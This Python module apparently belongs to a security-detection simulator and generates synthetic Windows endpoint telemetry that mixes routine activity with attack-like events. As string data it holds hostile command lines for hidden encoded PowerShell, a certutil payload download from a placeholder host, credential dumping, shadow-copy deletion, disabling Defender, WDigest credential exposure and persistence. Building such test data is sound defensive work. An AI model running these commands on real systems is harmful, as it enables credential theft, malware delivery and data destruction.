"""What programs do on a machine: processes, connections, files, registry, images, other events.

Each function makes the rows of one occurrence, without their time and their machine.
"""

from __future__ import annotations

from random import Random
from typing import Any

from aquila_mde.simulator.records_evidence import PEOPLE
from aquila_mde.simulator.seeds import hex_of
from aquila_mde.simulator.signals.parts import (
    OFFICE,
    SYSTEM32,
    USER_TEMP,
    Maker,
    Row,
    account,
    hashes,
    initiator,
    private_ip,
    public_ip,
)


def _process(rng: Random, parent: str, image: str, line: str, folder: str = SYSTEM32) -> Row:
    return {
        "ActionType": "ProcessCreated",
        "FileName": image,
        "FolderPath": f"{folder}\\{image}",
        "ProcessId": rng.randint(400, 30_000),
        "ProcessCommandLine": line,
        "ProcessIntegrityLevel": "High",
        "ProcessVersionInfoCompanyName": "Microsoft Corporation",
        "FileSize": rng.randint(20_000, 4_000_000),
        **hashes(rng),
        **account(rng),
        **initiator(rng, parent, folder=OFFICE if parent == "winword.exe" else SYSTEM32),
    }


def usual_process(rng: Random) -> list[Row]:
    """A program that is started every day."""
    image, line = rng.choice(
        (
            ("svchost.exe", "svchost.exe -k netsvcs -p"),
            ("chrome.exe", '"chrome.exe" --type=renderer'),
            ("notepad.exe", "notepad.exe notes.txt"),
            ("conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
        )
    )
    return [_process(rng, "explorer.exe", image, line)]


def _one_process(parent: str, image: str, line: str) -> Maker:
    return lambda rng: [_process(rng, parent, image, line.format(hex_of(rng, 6)))]


def _discovery(rng: Random) -> list[Row]:
    person = rng.choice(PEOPLE)
    commands = ("whoami /all", "net user /domain", "ipconfig /all", "nltest /dclist:", "systeminfo")
    return [
        _process(rng, "cmd.exe", f"{line.split()[0]}.exe", line) | account(rng, name=person)
        for line in commands
    ]


PROCESS: tuple[Maker, ...] = (
    _one_process("cmd.exe", "powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA{}"),
    _one_process("winword.exe", "cmd.exe", "cmd.exe /c start {}.bat"),
    _one_process(
        "cmd.exe", "certutil.exe", "certutil.exe -urlcache -f http://files.example.net/{} a.exe"
    ),
    _one_process(
        "cmd.exe", "rundll32.exe", "rundll32.exe comsvcs.dll, MiniDump 612 C:\\Temp\\{}.dmp full"
    ),
    _one_process("cmd.exe", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    _one_process(
        "cmd.exe", "powershell.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring 1"
    ),
    _one_process("wmiprvse.exe", "cmd.exe", "cmd.exe /q /c dir \\\\127.0.0.1\\{}"),
    _one_process("cmd.exe", "schtasks.exe", "schtasks.exe /create /tn {} /tr a.exe /sc onlogon"),
    _one_process("cmd.exe", "rar.exe", "rar.exe a -hp{} C:\\Temp\\out.rar C:\\Shares"),
    _discovery,
)


def _connection(rng: Random, image: str, ip: str, port: int, **more: Any) -> Row:
    return {
        "ActionType": "ConnectionSuccess",
        "LocalIP": private_ip(rng),
        "LocalPort": rng.randint(49_152, 65_535),
        "RemoteIP": ip,
        "RemotePort": port,
        "RemoteUrl": None,
        "Protocol": "Tcp",
        "LocalIPType": "Private",
        "RemoteIPType": "Private" if ip.startswith("10.") else "Public",
        **initiator(rng, image),
        **more,
    }


def usual_connection(rng: Random) -> list[Row]:
    """A connection of a browser."""
    url = rng.choice(("www.example.com", "cdn.example.net", "https://mail.example.org/inbox"))
    return [_connection(rng, "chrome.exe", public_ip(rng), 443, RemoteUrl=url)]


def _scan(rng: Random) -> list[Row]:
    network = f"10.{rng.randint(0, 9)}.{rng.randint(0, 250)}"
    head = _connection(rng, "python.exe", "", 445, ActionType="ConnectionFailed")
    return [head | {"RemoteIP": f"{network}.{host}"} for host in range(2, 34)]


def _from_outside(rng: Random) -> list[Row]:
    change = {"ActionType": "InboundConnectionAccepted", "LocalPort": 3389}
    return [_connection(rng, "svchost.exe", public_ip(rng), 51_000) | change]


NETWORK: tuple[Maker, ...] = (
    lambda rng: [_connection(rng, "powershell.exe", public_ip(rng), 8443)],
    lambda rng: [_connection(rng, "tor.exe", public_ip(rng), 9001)],
    lambda rng: [_connection(rng, "system", public_ip(rng), 445)],
    _scan,
    _from_outside,
)


def _file(rng: Random, action: str, name: str, folder: str, image: str, **more: Any) -> Row:
    return {
        "ActionType": action,
        "FileName": name,
        "FolderPath": f"{folder}\\{name}",
        "FileSize": rng.randint(1_000, 900_000_000),
        **hashes(rng),
        **initiator(rng, image),
        **more,
    }


def usual_file(rng: Random) -> list[Row]:
    """A file that an application writes."""
    name = f"cache-{hex_of(rng, 8)}.tmp"
    return [_file(rng, "FileCreated", name, USER_TEMP.format(rng.choice(PEOPLE)), "chrome.exe")]


def _renames(rng: Random) -> list[Row]:
    return [
        _file(
            rng,
            "FileRenamed",
            f"report-{number}.docx.locked",
            "C:\\Shares\\Finance",
            "updater.exe",
            PreviousFileName=f"report-{number}.docx",
            PreviousFolderPath="C:\\Shares\\Finance",
        )
        for number in range(60)
    ]


_STARTUP = "C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
FILE: tuple[Maker, ...] = (
    lambda rng: [
        _file(rng, "FileCreated", "sync.exe", _STARTUP.format(rng.choice(PEOPLE)), "cmd.exe")
    ],
    _renames,
    lambda rng: [
        _file(
            rng,
            "FileCreated",
            f"invoice-{hex_of(rng, 4)}.pdf.exe",
            "C:\\Users\\Public\\Downloads",
            "outlook.exe",
            FileOriginUrl="https://files.example.net/invoice",
        )
    ],
    lambda rng: [
        _file(rng, "FileCreated", f"{hex_of(rng, 6)}.aspx", "C:\\inetpub\\wwwroot", "w3wp.exe")
    ],
)


def _value(rng: Random, key: str, name: str, data: str, kind: str = "String") -> Row:
    return {
        "ActionType": "RegistryValueSet",
        "RegistryKey": key,
        "RegistryValueName": name,
        "RegistryValueData": data,
        "RegistryValueType": kind,
        "PreviousRegistryValueData": None,
        **initiator(rng, "reg.exe"),
    }


def usual_value(rng: Random) -> list[Row]:
    """A setting that an application remembers."""
    key = "HKEY_CURRENT_USER\\Software\\Contoso\\Viewer"
    return [_value(rng, key, "LastFile", f"notes-{hex_of(rng, 4)}.txt")]


_MACHINE = "HKEY_LOCAL_MACHINE\\SOFTWARE"
_RUN = f"{_MACHINE}\\Microsoft\\Windows\\CurrentVersion\\Run"
_AV = f"{_MACHINE}\\Policies\\Microsoft\\Windows Defender"
_WDIGEST = "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
REGISTRY: tuple[Maker, ...] = (
    lambda rng: [_value(rng, _RUN, f"Sync{hex_of(rng, 3)}", "C:\\Users\\Public\\sync.exe /q")],
    lambda rng: [_value(rng, _AV, "DisableAntiSpyware", "1", "Dword")],
    lambda rng: [_value(rng, _WDIGEST, "UseLogonCredential", "1", "Dword")],
)


def _event(rng: Random, action: str, image: str, more: Row, **fields: Any) -> Row:
    return {
        "ActionType": action,
        "AdditionalFields": more,
        **initiator(rng, image),
        **fields,
    }


def usual_event(rng: Random) -> list[Row]:
    """Something that machines tell all the time."""
    return [_event(rng, "ScreenshotTaken", "snippingtool.exe", {"Count": rng.randint(1, 3)})]


def _task(rng: Random) -> Row:
    more = {"TaskName": f"\\Updater{hex_of(rng, 4)}", "TaskContent": "a.exe"}
    return _event(rng, "ScheduledTaskCreated", "schtasks.exe", more)


EVENT: tuple[Maker, ...] = (
    lambda rng: [
        _event(
            rng,
            "AsrOfficeChildProcessBlocked",
            "winword.exe",
            {"IsAudit": "false", "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"},
            FileName="cmd.exe",
            FolderPath=f"{SYSTEM32}\\cmd.exe",
            ProcessCommandLine="cmd.exe /c a.bat",
        )
    ],
    lambda rng: [_task(rng)],
    lambda rng: [
        _event(rng, "UsbDriveMounted", "", {"DriveLetter": "E:", "SerialNumber": hex_of(rng, 10)})
    ],
    lambda rng: [
        _event(
            rng,
            "AntivirusDetection",
            "chrome.exe",
            {"ThreatName": "Trojan:Win32/Sample", "WasRemediated": "true"},
            FileName=f"{hex_of(rng, 6)}.exe",
            FolderPath="C:\\Users\\Public\\Downloads",
            **hashes(rng),
        )
    ],
)


def usual_image(rng: Random) -> list[Row]:
    """A library of the system."""
    return [_image(rng, "kernelbase.dll", SYSTEM32)]


def _image(rng: Random, name: str, folder: str) -> Row:
    return {
        "ActionType": "ImageLoaded",
        "FileName": name,
        "FolderPath": f"{folder}\\{name}",
        **hashes(rng),
        **initiator(rng, "onedrive.exe"),
    }


IMAGE: tuple[Maker, ...] = (
    lambda rng: [_image(rng, "version.dll", "C:\\Users\\Public\\Libraries")],
)
